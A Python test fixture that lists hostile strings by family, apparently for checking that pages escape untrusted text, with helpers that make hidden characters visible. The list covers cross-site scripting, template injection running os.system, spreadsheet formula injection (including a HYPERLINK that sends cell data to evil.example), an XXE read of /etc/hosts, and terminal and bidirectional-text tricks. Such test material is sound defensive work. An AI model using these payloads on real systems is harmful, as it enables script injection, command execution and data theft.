"""Texts that would do harm where a page forgot to escape, each with the word that stands for it in harmless pages."""

import re
from typing import NamedTuple

TWINS = ("harmless", "innocent")
"""What stands in the place of a hostile text, in a main part and in an addendum: plain words."""
PROSE, OPENING, OUTPUT, ADDRESS = "prose", "opening", "output", "address"
"""Forms in which a text is said: Markdown, the first line of it, output, without blanks. They end its twin."""


class Hostile(NamedTuple):
    """A text, and the family of attacks that it belongs to."""

    family: str
    text: str


def _of(family: str, *texts: str) -> tuple[Hostile, ...]:
    return tuple(Hostile(family, text) for text in texts)


HOSTILE = (
    *_of(
        "tag",
        "<script>alert(1)</script>",
        "<ScRiPt\n>alert(1)</sCrIpT >",
        "<script src=https://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button autofocus>x</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
        "<plaintext>",
        "<textarea><title><noscript><xmp>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<marquee onstart=alert(1)>x</marquee><xss style=display:block tabindex=1 onfocus=alert(1)>",
    ),
    *_of(
        "attribute",
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        '" autofocus onfocus=alert(1) x="',
        "` onmouseover=alert(1) `",
        '" style="position:fixed;inset:0;background:url(https://evil.example/x.png)',
        '"/onload=alert(1)/"',
    ),
    *_of(
        "address",
        "javascript:alert(1)",
        "JaVaScRiPt&colon;alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "https://evil.example/?<script>alert(1)</script>",
        "https://good.example:x@evil.example/'onmouseover='alert(1)",
        "//evil.example/x.js",
        "file:///etc/hosts",
    ),
    *_of(
        "SVG and MathML",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'>",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
        "</svg></a></g><script>alert(1)</script>",
    ),
    *_of(
        "mutation",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
        "<table><a href=javascript:alert(1)><tr><td></table>x",
    ),
    *_of(
        "template",
        "{{ 7 * 7 }}{% raw %}{# #}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for a in range(10 ** 9) %}x{% endfor %}{% include 'triage.md.j2' %}",
        "{{ count('blocker') }} {{ span('start', 'end') }} {{ last('entry') }} {{ words }}",
        "{{ count(__import__('os').system('id')) }}",
        "${7*7} #{7*7} <%= 7*7 %> ${{ secrets.X }} %{7*7} @(7*7)",
        "{0.__class__} %s%n%(x)s \\g<0> $1",
    ),
    *_of(
        "Markdown",
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "![x](javascript:alert(1)) ![pixel](https://evil.example/x.png 'seen')",
        "[x]: javascript:alert(1)\n\n[x] [rollback]",
        "[rollback]: https://evil.example/ 'Roll back'",
        "<javascript:alert(1)> <https://evil.example/<script>>",
        "x\n\n<div><script>alert(1)</script></div>\n\ny",
        "- a\n  ```\n# Injected\n<script>alert(1)</script>",
        "````\n```\n~~~",
        "x\n===\n\ny\n---",
        "# Final state\n\n## Action queue",
        "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | `x|y` |",
        "` `` ``` <script>alert(1)</script> ```` `` `",
        "x \\`<img src=x onerror=alert(1)>\\` y",
        "> > 1. - [ ] > # x",
        "    <script>alert(1)</script>",
        "**[x](https://evil.example \"' onmouseover='alert(1)\")** ~~y~~ __z__",
        "{#top .x onclick=alert(1)} {: onclick=alert(1) } :::note",
    ),
    *_of(
        "terminal",
        "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
        "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x9b1m",
        "good\rbad\x08\x08\x08\x7f",
        "\x1b]0;title\x07\x1bP+q\x1b\\",
    ),
    *_of(
        "hidden",
        "\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e",
        "pass\u200bword \u2060zero\ufeffwidth soft\u00adhyphen",
        "\U000e0001\U000e0041tags\U000e007f \ufff9a\ufffab\ufffb",
        "not\ufffea\uffffcharacter \U0001fffe \ufdd0",
        "a\u2028b\u2029c\x85d\x0be\x0cf",
        "Z\u0351\u0352\u0353a\u0300\u0301l\u0302g\u0303o \u0627\u0644\u0644\u0651\u0647 \U0001f469\u200d\U0001f4bb",
        "half \udc00 pair \ud800",
    ),
    *_of(
        "formula",
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?x="&A1,"x")',
        "+1-1\t=1,\"x\"\r\n;x",
    ),
    *_of(
        "closing",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script><![CDATA[",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</code></pre></details><script>alert(1)</script>",
        "</td></tr></table></main><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hosts'>]><x>&y;</x>",
    ),
    *_of(
        "script data",
        "</script><script>alert(1)</script>",
        "<!--<script>",
        '"]);alert(1);//',
        "'};alert(1);//",
        "\\\"-alert(1)}//",
        "`-${alert(1)}-`",
        "\u2028alert(1)\u2029//",
        "__proto__ constructor toString hasOwnProperty",
    ),
    *_of(
        "entity",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#x3c;/script>",
        "&amp;lt;b&amp;gt; &nbsp;&copy;&NewLine;&lpar;",
        "&#0;&#x202e;&#xd800;&#x110000;",
    ),
    *_of(
        "bounds",
        "\x00<script>alert(1)</script>\x00",
        "%00%3Cscript%3Ealert(1)%3C/script%3E",
        "\\xFF \\u{202E} \\0",
        "x" * 3000 + "<script>alert(1)</script>",
        "<" * 500 + "\"'`" * 200,
        "long words of a line " * 100 + "</main>",
        "0 -1 1E+02 NaN null undefined true 0x0",
    ),
)  # fmt: skip


def said(text: str, form: str = "") -> str:
    """The text, or the twin of one, as it is said in a form."""
    if text in TWINS:
        return text + form
    if form == OPENING:
        return (text.strip().splitlines() or [""])[0]
    return "".join(text.split()) if form == ADDRESS else text


def read(text: str, form: str = "") -> str:
    """The text as a reader of a page must find it, in the form in which it was said."""
    if form == OUTPUT:  # its colours are not shown; a carriage return writes over what is there
        lines = _COLOURS.sub("", text).replace("\r\n", "\n")
        return legible(lines.replace("\r", "\\u{D}").replace("\x85", "\\u{85}"))
    return legible(said(text, form))


_COLOURS = re.compile(r"\x1b\[[0-9;:]*[mK]")
_CONTROLS = "\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f"
_BIDIRECTIONAL = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
_ZERO_WIDTH = "\u00ad\u180e\u200b\u2060-\u2065\u206a-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e007f"
_NOT_TEXT = "\ud800-\udfff\ufdd0-\ufdef" + "".join(
    chr(plane << 16 | low) for plane in range(17) for low in (0xFFFE, 0xFFFF)
)
_HIDDEN = re.compile(f"[{_CONTROLS}{_BIDIRECTIONAL}{_ZERO_WIDTH}{_NOT_TEXT}]")


def legible(text: str) -> str:
    r"""The text as a reader of a page must find it: what could not be seen, or misleads, as ``\u{202E}``."""
    return _HIDDEN.sub(lambda found: f"\\u{{{ord(found[0]):X}}}", text)
